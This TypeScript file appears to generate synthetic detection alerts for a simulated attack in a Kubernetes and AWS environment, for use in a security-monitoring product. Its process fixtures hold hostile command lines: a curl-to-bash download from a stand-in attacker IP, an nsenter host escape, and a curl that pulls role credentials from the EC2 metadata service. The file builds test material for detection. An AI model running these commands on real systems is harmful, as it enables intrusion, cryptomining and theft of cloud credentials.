import { apiFields, awsLabels, awsResource, hostResource, imageOf, type Pod, podLabels, type Process, processFields, processTree, workloadResource } from '../places.ts';
import { ago, type Signal, Story } from '../story.ts';
import type { World } from '../world.ts';

const account = '123456789012';
const attacker = '198.51.100.23';
const node = 'ip-10-20-3-41.eu-west-1.compute.internal';
const hostId = '0a58c2f1-host';
const pod: Pod = {
  cluster: 'prod-eu-1',
  namespace: 'shop',
  workload: 'storefront',
  workloadType: 'deployment',
  name: 'storefront-7c9d8b6f5d-x2k4q',
  node,
  container: '3f2a9c81d7be',
  image: {
    repository: 'docker.io/acme/storefront',
    tag: '2.14.1',
    digest: 'sha256:9b1f0c5a7de2438f6a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f',
  },
};
const machine = { ...awsLabels(account, 'eu-west-1'), 'aws.instanceId': 'i-0a1b2c3d4e5f60718', 'host.mac': '0a:58:0a:14:03:29', 'host.id': hostId };
const inPod = { ...podLabels(pod), ...machine };
const onNode = { 'kubernetes.cluster.name': pod.cluster, 'kubernetes.node.name': node, 'host.hostName': node, ...machine };

const tini: Process = { name: 'tini', cmdline: 'tini -- catalina.sh run', pid: 1 };
const java: Process = { name: 'java', cmdline: 'java -Dcatalina.base=/usr/local/tomcat org.apache.catalina.startup.Bootstrap start', pid: 31 };
const bash: Process = { name: 'bash', cmdline: `bash -c curl -s http://${attacker}/i.sh | bash`, pid: 48190 };
const miner: Process = {
  name: 'kdevtmpfsi',
  cmdline: 'kdevtmpfsi -o pool.example:3333',
  pid: 48213,
  exe: '/dev/shm/.x/kdevtmpfsi',
  sha256: '6f6ad3f1a5b0c2d4e8f90123456789abcdef0123456789abcdef0123456789ab',
};
const nsenter: Process = { name: 'nsenter', cmdline: 'nsenter -t 1 -m -u -n -i bash', pid: 48241 };
const curl: Process = {
  name: 'curl',
  cmdline: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role-storefront',
  pid: 48260,
};

const role = {
  user: 'ec2-role-storefront',
  arn: `arn:aws:sts::${account}:assumed-role/ec2-role-storefront/i-0a1b2c3d4e5f60718`,
  type: 'AssumedRole',
  account,
  accessKey: 'ASIAEXAMPLESTOREFRNT',
  ip: attacker,
  userAgent: 'aws-cli/2.17.9 Python/3.11.8 Linux/6.8.0',
};
const backdoor = { ...role, user: 'backup-admin', arn: `arn:aws:iam::${account}:user/backup-admin`, type: 'IAMUser', accessKey: 'AKIAEXAMPLEBACKUP001' };

const minerRuns: Signal = {
  from: 'container',
  rule: 'Execution from /dev/shm',
  tags: ['container', 'host', 'MITRE', 'MITRE_TA0002_execution', 'MITRE_T1059.004_command_and_scripting_interpreter_unix_shell'],
  severity: 1,
  labels: { ...inPod, 'process.name': '/dev/shm/.x/kdevtmpfsi' },
  fields: processFields([tini, java, bash, miner], pod, { 'proc.cwd': '/usr/local/tomcat/' }),
  output: `File execution detected from /dev/shm (proc.cmdline=${miner.cmdline} proc.name=kdevtmpfsi proc.pname=bash container.id=${pod.container})`,
};

/** A web shell in a Tomcat pod leads to a miner, to the node's credentials and with them into the AWS account: one incident in three groups. */
export function webShell(world: World, begin: number): void {
  const story = new Story(world, 'webShell', begin);
  world.responders.hosts.set(hostId, node);
  world.responders.clusters.add(pod.cluster);
  world.responders.accounts.add(account);
  inThePod(story);
  onTheNode(story);
  inTheAccount(story);
  story.asset({
    kind: 'workload',
    name: imageOf(pod).reference,
    digest: pod.image.digest,
    scope: { ...inPod, 'asset.type': 'workload', 'kubernetes.pod.container.name': pod.workload },
    exposed: true,
    vulnerabilities: [
      { cve: 'CVE-2022-22965', severity: 'critical', cvss: 9.8, packageName: 'spring-beans', packageVersion: '5.3.17', packageType: 'java', fixVersion: '5.3.18', exploitable: true, inUse: true, kevDate: '2022-04-04' },
      { cve: 'CVE-2021-36222', severity: 'high', cvss: 7.5, packageName: 'libkrb5-3', packageVersion: '1.18.3-6', packageType: 'os', fixVersion: '1.18.3-6+deb11u1', exploitable: false, inUse: false },
    ],
    violations: ['Container running as root', 'Privileged container', 'Host PID namespace shared'],
  });
  story.advisory(
    { id: 'tif-storefront-miner', title: 'Web shells dropping kdevtmpfsi variants', summary: 'Active exploitation of CVE-2022-22965 to drop miners.', cves: ['CVE-2022-22965'], iocs: [attacker] },
    ago({ days: 8 }),
  );
}

function inThePod(story: Story): void {
  const written = story.signal(ago({ minutes: 31, seconds: 40 }), {
    from: 'container',
    rule: 'Web Server Wrote an Executable Page',
    tags: ['container', 'MITRE', 'MITRE_TA0003_persistence', 'MITRE_T1505.003_server_software_component_web_shell'],
    severity: 3,
    labels: inPod,
    fields: processFields([tini, java], pod, { 'evt.type': 'openat', 'fd.name': '/usr/local/tomcat/webapps/ROOT/health.jsp' }),
    output: 'Executable page written by the web server (file=/usr/local/tomcat/webapps/ROOT/health.jsp proc.name=java)',
  });
  const shell = story.signal(ago({ minutes: 31 }), {
    from: 'container',
    rule: 'Run shell untrusted',
    tags: ['container', 'MITRE', 'MITRE_TA0002_execution', 'MITRE_T1059.004_command_and_scripting_interpreter_unix_shell'],
    severity: 2,
    labels: inPod,
    fields: processFields([tini, java, bash], pod),
    output: `Shell spawned by untrusted binary (proc.cmdline=${bash.cmdline} proc.pname=java container.id=${pod.container})`,
  });
  const executed = story.signal(ago({ minutes: 30, seconds: 15 }), minerRuns);
  const mining = story.signal(ago({ minutes: 30 }), {
    from: 'container',
    rule: 'Detect outbound connections to common miner pool ports',
    tags: ['container', 'network', 'MITRE', 'MITRE_TA0040_impact', 'MITRE_T1496_resource_hijacking'],
    severity: 2,
    policy: 'Sysdig Runtime Threat Intelligence',
    labels: inPod,
    fields: processFields([tini, java, bash, miner], pod, { 'evt.type': 'connect', 'fd.rip': '203.0.113.77', 'fd.rport': '3333', 'fd.name': '10.20.3.118:52144->203.0.113.77:3333' }),
    output: 'Outbound connection to a miner pool port (proc.name=kdevtmpfsi connection=10.20.3.118:52144->203.0.113.77:3333)',
  });
  story.raw(ago({ minutes: 29, seconds: 50 }), {
    name: 'Sysdig ML Crypto Mining',
    description: 'Machine learning detection of crypto miners',
    severity: 1,
    category: 'miner',
    source: 'profiling',
    originator: 'profilingDetection',
    engine: 'machineLearning',
    labels: inPod,
    actions: [],
    content: { type: 'workloadMLRuntimeDetection', policyId: 10011711, command: miner.cmdline, exe: '/dev/shm/.x/kdevtmpfsi', detectedClassProbability: 0.97 },
  });
  for (const id of [executed, mining]) story.tree(id, processTree([tini, java, bash, miner], pod));
  story.tree(shell, processTree([tini, java, bash], pod));
  const groupId = story.group({
    name: 'Persistence, Execution, Impact on Kubernetes Workload',
    title: 'Cryptominer dropped through storefront web shell',
    description: `The java process in storefront wrote health.jsp and spawned bash, which ran curl against ${attacker} and executed kdevtmpfsi from /dev/shm. kdevtmpfsi then connected to 203.0.113.77:3333.`,
    severity: 'high',
    resource: workloadResource(pod),
    otherResources: [awsResource(account)],
    threats: [
      { name: 'Execution from /dev/shm', title: 'Miner execution from shared memory', description: 'bash, child of java, executed kdevtmpfsi from /dev/shm.', severity: 'high', events: [executed, shell, mining], image: imageOf(pod) },
      { name: 'Web Server Wrote an Executable Page', title: 'Web shell written by Tomcat', description: 'java wrote /usr/local/tomcat/webapps/ROOT/health.jsp.', severity: 3, events: [written], image: imageOf(pod) },
    ],
  });
  story.keepsFiring(minerRuns, {
    groupId,
    threat: 'Miner execution from shared memory',
    target: {
      'host.id': hostId,
      'container.id': pod.container,
      'kubernetes.cluster.name': pod.cluster,
      'kubernetes.namespace.name': pod.namespace,
      'kubernetes.pod.name': pod.name,
      'kubernetes.workload.type': pod.workloadType,
      'kubernetes.workload.name': pod.workload,
    },
  });
}

function onTheNode(story: Story): void {
  const escape = story.signal(ago({ minutes: 29, seconds: 50 }), {
    from: 'host',
    rule: 'Change thread namespace',
    tags: ['container', 'host', 'MITRE', 'MITRE_TA0004_privilege_escalation', 'MITRE_T1611_escape_to_host'],
    severity: 2,
    labels: onNode,
    fields: processFields([tini, java, bash, nsenter], pod, { 'evt.type': 'setns' }),
    output: `Namespace change (setns) by unexpected program (proc.cmdline=${nsenter.cmdline} container.id=${pod.container})`,
  });
  const metadata = story.signal(ago({ minutes: 29, seconds: 36 }), {
    from: 'host',
    rule: 'Contact EC2 Instance Metadata Service From Host',
    tags: ['host', 'network', 'aws', 'MITRE', 'MITRE_TA0006_credential_access', 'MITRE_T1552.005_unsecured_credentials_cloud_instance_metadata_api'],
    severity: 2,
    labels: onNode,
    fields: processFields([java, bash, nsenter, curl], 'host', { 'evt.type': 'connect', 'fd.rip': '169.254.169.254', 'fd.rport': '80' }),
    output: `Outbound connection to the EC2 instance metadata service (proc.cmdline=${curl.cmdline} proc.pname=nsenter)`,
  });
  story.tree(metadata, processTree([tini, java, bash, nsenter, curl], 'host'));
  story.group({
    name: 'Privilege Escalation, Credential Access on Host',
    title: 'Instance credentials stolen from the metadata service',
    description: 'nsenter, started by bash under java, entered the namespaces of the host. curl then read the credentials of ec2-role-storefront from 169.254.169.254.',
    severity: 2,
    resource: { ...hostResource(node), cluster: pod.cluster },
    otherResources: [awsResource(account)],
    threats: [
      { name: 'Contact EC2 Instance Metadata Service From Host', title: 'Metadata service read on the node', description: 'curl read the credentials of ec2-role-storefront from 169.254.169.254.', severity: 2, events: [metadata] },
      { name: 'Change thread namespace', title: 'Container left for the host', description: 'nsenter entered the namespaces of process 1.', severity: 'high', events: [escape] },
    ],
  });
}

function inTheAccount(story: Story): void {
  const aws = { from: 'cloudtrail', labels: awsLabels(account, 'eu-west-1') } as const;
  const iam = { from: 'cloudtrail', labels: awsLabels(account, 'us-east-1') } as const;
  const key = story.signal(ago({ minutes: 23, seconds: 56 }), {
    ...iam,
    rule: 'Create Access Key for User',
    tags: ['cloud', 'aws', 'MITRE', 'MITRE_TA0003_persistence', 'MITRE_T1098.001_account_manipulation_additional_cloud_credentials'],
    severity: 3,
    fields: apiFields({ service: 'iam', api: 'CreateAccessKey', region: 'us-east-1' }, role, {
      'ct.request.username': backdoor.user,
      'ct.response.accesskey.accesskeyid': backdoor.accessKey,
    }),
    output: `Access key created for user ${backdoor.user} (requesting user=${role.user}, ip=${attacker})`,
  });
  const stopped = story.signal(ago({ minutes: 20, seconds: 58 }), {
    ...aws,
    rule: 'CloudTrail Logging Disabled',
    tags: ['cloud', 'aws', 'MITRE', 'MITRE_TA0005_defense_evasion', 'MITRE_T1562.008_impair_defenses_disable_or_modify_cloud_logs'],
    severity: 1,
    fields: apiFields({ service: 'cloudtrail', api: 'StopLogging', region: 'eu-west-1' }, backdoor, { 'ct.request.name': 'org-trail' }),
    output: `CloudTrail logging stopped for org-trail (requesting user=${backdoor.user}, ip=${attacker})`,
  });
  const unblocked = story.signal(ago({ minutes: 19, seconds: 20 }), {
    ...aws,
    rule: 'Delete Bucket Public Access Block',
    tags: ['cloud', 'aws', 'MITRE', 'MITRE_TA0005_defense_evasion', 'MITRE_T1562.007_impair_defenses_disable_or_modify_cloud_firewall'],
    severity: 2,
    fields: apiFields({ service: 's3', api: 'DeleteBucketPublicAccessBlock', region: 'eu-west-1' }, backdoor, { 'ct.request.bucketname': 'acme-orders' }),
    output: `Public access block deleted on acme-orders (requesting user=${backdoor.user}, ip=${attacker})`,
  });
  const opened = story.signal(ago({ minutes: 18, seconds: 50 }), {
    ...aws,
    rule: 'Put Bucket Policy Allowing Public Access',
    tags: ['cloud', 'aws', 'MITRE', 'MITRE_TA0010_exfiltration', 'MITRE_T1537_transfer_data_to_cloud_account'],
    severity: 1,
    fields: apiFields({ service: 's3', api: 'PutBucketPolicy', region: 'eu-west-1' }, backdoor, { 'ct.request.bucketname': 'acme-orders' }),
    output: `Bucket acme-orders made public (requesting user=${backdoor.user}, ip=${attacker})`,
  });
  story.group({
    name: 'Persistence, Defense Evasion, Exfiltration on AWS Account',
    title: 'Access key created, CloudTrail stopped and bucket opened',
    description: `${role.user} created an access key for ${backdoor.user} from ${attacker}. ${backdoor.user} then stopped org-trail and made acme-orders public.`,
    severity: 'critical',
    resource: awsResource(account),
    threats: [
      { name: 'Put Bucket Policy Allowing Public Access', title: 'Bucket acme-orders made public', description: `${backdoor.user} removed the public access block and opened the bucket policy.`, severity: 1, events: [opened, unblocked] },
      { name: 'CloudTrail Logging Disabled', title: 'CloudTrail logging stopped', description: `${backdoor.user} stopped org-trail.`, severity: 'high', events: [stopped] },
      { name: 'Create Access Key for User', title: 'Access key created with stolen credentials', description: `${role.user} created an access key for ${backdoor.user}.`, severity: 3, events: [key] },
    ],
  });
}
